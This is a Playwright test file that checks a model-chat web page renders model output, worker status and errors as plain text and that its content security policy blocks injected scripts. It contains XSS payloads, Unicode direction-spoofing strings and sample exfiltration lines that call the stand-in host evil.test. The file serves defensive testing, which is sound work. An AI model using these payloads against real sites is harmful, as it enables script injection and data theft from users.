"""Whatever a model or a narrator says is text: it makes no element, runs nothing, and turns no line around."""

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, expect

from rhapsode_contract import frames
from support.fake_worker import FakeWorker
from support.processes import Relay, running_relay
from support.screens import Screen

OpenScreen = Callable[..., Screen]
MARKUP = (
    "<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg/onload=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "</li></ol><iframe srcdoc='<script>alert(1)</script>'>", "{{constructor.constructor('alert(1)')()}}", "&lt;b&gt;",
    "<style>*{display:none}</style>", "<!--", "]]>", "<form action=//evil.test><input name=key>",
)  # fmt: skip
NUMBER_OF_ELEMENTS = (
    "document.querySelectorAll('img, iframe, style, a:not(.skip), form form, script:not([src])').length"
)


@pytest.fixture(scope="module")
def shared() -> Iterator[Relay]:
    """A relay that only serves the page."""
    with running_relay() as relay:
        yield relay


def test_markup_in_what_it_does_is_shown_as_it_is_written(
    relay: Relay, worker: FakeWorker, open_screen: OpenScreen
) -> None:
    screen = open_screen(relay.url)
    screen.ask(MARKUP[0])
    job = worker.begin()
    for words in MARKUP:
        worker.send(
            frames.Narration(job_id=job.job_id, human=words, cute=words, story=words, actor=words[:60], action="note")
        )
        expect(screen.told.filter(has_text=words)).to_have_count(1)
    assert screen.evaluate(NUMBER_OF_ELEMENTS) == 0
    expect(screen.page.locator("#question")).to_have_text(MARKUP[0])


def test_markup_in_what_it_says_is_shown_as_it_is_written(
    relay: Relay, worker: FakeWorker, open_screen: OpenScreen
) -> None:
    screen = open_screen(relay.url)
    screen.ask("Sing")
    worker.serve(*MARKUP)
    screen.await_answer("".join(MARKUP))
    screen.await_state("Complete")
    assert screen.evaluate(NUMBER_OF_ELEMENTS) == 0


def test_markup_in_what_the_worker_is_called_and_suffers_is_text(relay: Relay, open_screen: OpenScreen) -> None:
    gpu = frames.Gpu(
        uuid="a", name=MARKUP[0], total_bytes=2, used_bytes=1, healthy=False, trouble=MARKUP[1], throttle=[MARKUP[2]]
    )
    with FakeWorker(relay.socket, ready=False, model=MARKUP[0], engine=MARKUP[2]) as worker:
        worker.send(frames.Load(stage=MARKUP[0], percent=5), frames.Vram(source="nvml", gpus=[gpu]))
        worker.send(frames.State(phase="loading", reason=MARKUP[2], message=MARKUP[1]))
        screen = open_screen(relay.url)
        expect(screen.page.locator("#message")).to_have_text(MARKUP[1])
        expect(screen.page.locator("#worker-name")).to_contain_text(MARKUP[0])
        expect(screen.gauge("VRAM")).to_contain_text(MARKUP[1])
        assert screen.evaluate(NUMBER_OF_ELEMENTS) == 0


def test_an_error_that_is_markup_is_text(relay: Relay, worker: FakeWorker, open_screen: OpenScreen) -> None:
    screen = open_screen(relay.url)
    screen.ask("Sing")
    job = worker.begin()
    worker.send(frames.Error(job_id=job.job_id, code="engine_error", message=MARKUP[0]))
    screen.await_state("Failed")
    expect(screen.page.locator("#trouble")).to_contain_text(MARKUP[0])


def test_a_sentence_cannot_turn_its_line_around_or_colour_a_terminal(shared: Relay, open_screen: OpenScreen) -> None:
    """Also where a relay lets it through: the page's own last line of defence, asked directly."""
    screen = open_screen(shared.url)
    hostile = "a\u202egnp.exe\u2066\u2028b\u001b[31mred\u0000\ufeff\u200fc\nd"
    shown = screen.evaluate("async (text) => (await import('/page/writing.js')).plain(text)", hostile)
    assert shown == "a gnp.exe b [31mred c d"


def test_right_to_left_text_stays_in_its_place(relay: Relay, worker: FakeWorker, open_screen: OpenScreen) -> None:
    screen = open_screen(relay.url)
    screen.ask("\u202eSing")
    said = "\u202eabc\u202c שלום"
    worker.serve(said)
    screen.await_answer(said)
    assert screen.evaluate("getComputedStyle(document.getElementById('text')).unicodeBidi") == "isolate"


ATTACKS = (
    ("document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.hit = 1'}))", "trusted-types"),
    ("document.body.innerHTML += '<img src=x onerror=\"window.hit = 1\">'", "trusted-types"),
    ("document.head.append(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: 'data:text/css,*{}'}))", "style-src"),
    ("new Image().src = 'https://evil.test/?key'", "img-src"),
    ("fetch('https://evil.test/', {mode: 'no-cors'}).catch(() => {})", "connect-src"),
    ("document.body.setAttribute('style', 'display: none')", "style-src"),
)  # fmt: skip


def test_the_policy_stops_what_would_come_through_a_hole(browser: Browser, shared: Relay) -> None:
    screen = Screen(browser, shared.url)
    for attack, directive in ATTACKS:
        screen.evaluate(f"() => {{ window.violations = []; try {{ {attack} }} catch {{ }} }}")
        # an earlier attack may be told of once more meanwhile
        screen.page.wait_for_function("(what) => window.violations.some((one) => one.includes(what))", arg=directive)
    assert screen.evaluate("window.hit") is None
    screen.context.close()
